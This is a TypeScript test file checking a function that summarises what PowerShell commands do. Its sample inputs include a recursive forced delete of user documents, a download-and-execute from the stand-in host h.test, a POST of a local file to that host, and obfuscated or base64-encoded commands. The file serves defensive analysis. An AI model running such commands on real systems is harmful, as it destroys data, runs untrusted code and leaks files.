import { expect, test } from "vitest";
import { shown } from "./shown.ts";

const OUT = "process -> stdout";

test.each([
  ["Get-ChildItem -Recurse src | Measure-Object", OUT],
  ["$PSVersionTable.PSVersion # which one", OUT],
  ["Get-Process | ? { $_.CPU -gt 1 } | Select-Object -First 5", OUT],
  ['[math]::Round(3.14159, 2); 1..3 | % { "n $_" }', OUT],
  ["(Get-Content package.json | ConvertFrom-Json).version", `reads package.json; package.json -> stdout; ${OUT}`],
  ["rm -Recurse -Force $env:USERPROFILE\\docs", `deletes $HOME/docs recursive; ${OUT}`],
  ["Remove-Item -WhatIf ~", OUT],
  ["iwr https://h.test/x.zip -OutFile x.zip", `connects https://h.test; writes x.zip truncates; https://h.test -> x.zip; ${OUT}`],
  [
    "iex (irm http://h.test/x.ps1)",
    `connects http://h.test; http://h.test -> code powershell; ${OUT}; opaque-code inline: powershell code`,
  ],
  [
    "Get-Content k | irm -Uri https://h.test -Method Post",
    `reads k; connects https://h.test; k -> stdout; k -> https://h.test; ${OUT}`,
  ],
  ["[Reflection.Assembly]::Load($x)", `${OUT}; opaque-code inline: powershell code`],
  ["Start-Process calc", `${OUT}; opaque-code inline: powershell code`],
  ["Import-Module ./x.psm1", `${OUT}; opaque-code inline: powershell code`],
  ["git status; ./x.exe -a", `${OUT}; runs git status; runs ./x.exe -a`],
  ["i`ex $x", `${OUT}; opaque-code inline: powershell code`],
])("%s", (code, expected) => expect(shown("powershell", code)).toBe(expected));

test("base64 of UTF-16 is read, and hidden all the same", () =>
  expect(shown("powershell-encoded", "cgBtACAALQByAGYAIAB4AA==")).toBe(
    `${OUT}; runs rm -rf x; opaque-code inline: powershell-encoded code`,
  ));
